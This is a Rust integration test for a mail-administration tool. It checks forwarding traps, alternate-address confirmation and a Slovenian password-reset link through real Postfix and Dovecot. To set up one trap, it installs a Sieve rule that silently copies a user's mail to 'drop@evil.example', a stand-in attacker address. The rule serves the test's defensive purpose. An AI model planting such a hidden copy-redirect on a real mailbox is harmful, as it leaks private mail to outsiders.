//! Mail to an alternate address through a real Postfix, and the forwarding traps with a real Pigeonhole: the link that sets a
//! password arrives in Slovenian, and sets one that a real Dovecot takes.

use std::io::Write;
use std::process::{Command, Stdio};

use anyhow::{Context, Result};
use postern_testkit::servers::ports::Port;
use postern_testkit::servers::sink::Received;
use postern_testkit::servers::site::Site;
use postern_testkit::web_client::ask;

use crate::world::{EVE, HOME, ROB};

const AT_HOME: &str = "rob@home.example";
/// What the owner chooses.
pub const BY_LINK: &str = "copper lantern window 88";

/// Has Postern hand its mails to Postfix, which delivers them to the rest of the world. Before the start; the port stays ours.
pub fn relay_through_postfix(site: &Site) -> Result<Port> {
    let port = Port::free()?;
    let service = format!(
        "{} inet n - n - - smtpd\n  -o mynetworks=127.0.0.0/8\n  -o smtpd_relay_restrictions=permit_mynetworks,reject\n",
        port.number()
    );
    site.host.add_to_master_cf(&service)?;
    let folder = site.host.folder();
    let config = std::fs::read_to_string(folder.join("postern.toml"))?;
    let sink = site.host.sink.address().to_string();
    anyhow::ensure!(config.contains(&sink), "the relay is the sink: {config}");
    folder.write("postern.toml", &config.replace(&sink, &port.address().to_string()))?;
    Ok(port)
}

fn put_script(site: &Site, login: &str, script: &str) -> Result<()> {
    let mut put = Command::new("/usr/bin/doveadm")
        .arg("-c")
        .arg(site.host.folder().join("dovecot.conf"))
        .args(["sieve", "put", "-u", login, "-a", "forward"])
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .spawn()?;
    put.stdin.take().context("stdin is a pipe")?.write_all(script.as_bytes())?;
    anyhow::ensure!(put.wait()?.success(), "{}", site.host.log("dovecot.log"));
    Ok(())
}

fn refused(site: &Site, address: &str, because: &str) -> Result<()> {
    let arguments = ["user", "alternate", "add", ROB, address, "--reason", "a test"];
    let answered = site.run(&arguments, None)?;
    assert_eq!(answered.code, 4, "{address}: {answered:?}");
    assert!(answered.stderr.contains(because), "{address}: {answered:?}");
    Ok(())
}

/// The traps, the confirmation, the link, and the password that its owner sets.
pub async fn arrives_and_sets_a_password(site: &Site) -> Result<()> {
    site.ok(&["user", "set", ROB, "--language", "sl"])?;
    put_script(site, ROB, "require [\"copy\"];\nredirect :copy \"drop@evil.example\";\n")?;
    put_script(site, EVE, &format!("redirect \"{ROB}\";\n"))?;
    refused(site, "Drop@EVIL.example", "sends its mail on to this address")?;
    refused(site, EVE, "ends up in the account itself")?;
    refused(site, "rob+x@contoso.com", "is the account itself")?;

    site.ok(&["user", "alternate", "add", ROB, AT_HOME, "--reason", "asked for it"])?;
    let confirm = mailed(site, "confirm-address").await?;
    assert!(confirm.text.contains("Potrdite ta naslov"), "{}", confirm.text);
    assert!(confirm.head.contains("Postfix"), "through Postfix: {}", confirm.head);
    press(site, &confirm.path, "").await?;
    let sent = site.ok(&["user", "reset-password", ROB, "--send-link", "--reason", "forgot it"])?;
    assert!(sent.contains(AT_HOME), "{sent}");
    let set = mailed(site, "set-password").await?;
    assert!(set.text.contains("Skrbnik vas prosi, da izberete novo geslo"), "{}", set.text);
    let head = &set.head;
    assert!(head.contains("multipart/alternative") && head.contains("Auto-Submitted"), "{head}");
    let new = BY_LINK.replace(' ', "+");
    let done = press(site, &set.path, &format!("&new={new}&again={new}")).await?;
    assert!(done.contains("Zdaj se lahko vpišete"), "{done}");
    assert!(site.host.sink.messages().iter().all(|mail| !mail.text.contains(BY_LINK)), "never a password");
    Ok(())
}

/// A mail to the alternate address, read as its reader's program reads it.
struct Mail {
    head: String,
    text: String,
    /// Of its link, below the site's address.
    path: String,
}

async fn mailed(site: &Site, page: &str) -> Result<Mail> {
    let begins = format!("{}/{page}/", site.public_url());
    let is_it = |mail: &Received| mail.to == [AT_HOME] && decoded(&mail.text).contains(&begins);
    let mail = site.host.sink.wait_for(is_it).await.with_context(|| site.log())?;
    let (head, text) = mail.text.split_once("\n\n").context("a head and a body")?;
    let text = decoded(text);
    let link = text.lines().find(|line| line.starts_with(&begins)).context("a link on its own line")?;
    let path = link.trim().strip_prefix(&site.public_url()).context("below the site")?.to_owned();
    Ok(Mail { head: head.to_owned(), path, text })
}

/// Quoted-printable (RFC 2045, section 6.7).
fn decoded(text: &str) -> String {
    let joined = text.replace("=\n", "");
    let mut bytes = Vec::with_capacity(joined.len());
    let mut rest = joined.as_bytes();
    while let Some((&byte, more)) = rest.split_first() {
        let hex = more.get(..2).and_then(|hex| std::str::from_utf8(hex).ok());
        match hex.and_then(|hex| u8::from_str_radix(hex, 16).ok()).filter(|_| byte == b'=') {
            Some(decoded) => {
                bytes.push(decoded);
                rest = &more[2..];
            }
            None => {
                bytes.push(byte);
                rest = more;
            }
        }
    }
    String::from_utf8_lossy(&bytes).into_owned()
}

async fn press(site: &Site, path: &str, fields: &str) -> Result<String> {
    let page = ask(site.web(), "GET", path, "Accept-Language: sl\r\n", "", HOME).await?;
    anyhow::ensure!(page.status == 200, "{page:?}");
    let seal = page.body.split("name=\"seal\" value=\"").nth(1).and_then(|rest| rest.split('"').next());
    let form = format!("seal={}{fields}", seal.context("a seal")?);
    let head = "Content-Type: application/x-www-form-urlencoded\r\nAccept-Language: sl\r\n";
    let done = ask(site.web(), "POST", path, head, &form, HOME).await?;
    anyhow::ensure!(done.status == 200, "{done:?}");
    Ok(done.text())
}
